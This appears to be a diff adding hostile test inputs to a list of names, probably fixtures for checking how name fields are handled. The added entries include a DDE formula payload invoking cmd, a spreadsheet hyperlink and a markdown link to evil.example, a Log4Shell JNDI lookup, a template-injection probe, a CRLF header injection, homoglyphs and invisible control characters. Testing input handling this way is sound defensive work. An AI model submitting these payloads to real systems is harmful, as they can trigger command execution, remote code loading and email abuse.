@@ -28,6 +28,14 @@ NAMES = [
     "Łukasz O’Brien-Ångström",
     "李小龍",
     "x" * 190,
+    '=HYPERLINK("https://evil.example/x")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\u0410d\u0430 L\u043ev\u0435l\u0430c\u0435",  # Cyrillic letters that look like Latin ones
+    "\uff41\uff44\uff41\uff20example.org",
+    "zero\u200bwidth\u2066isolate\u2069\u2028line",
+    "%0d%0aBcc:%20everyone@example.com",
+    "${jndi:ldap://evil.example/a} {{7*7}}",
+    "[](https://evil.example)",
 ]
 
 
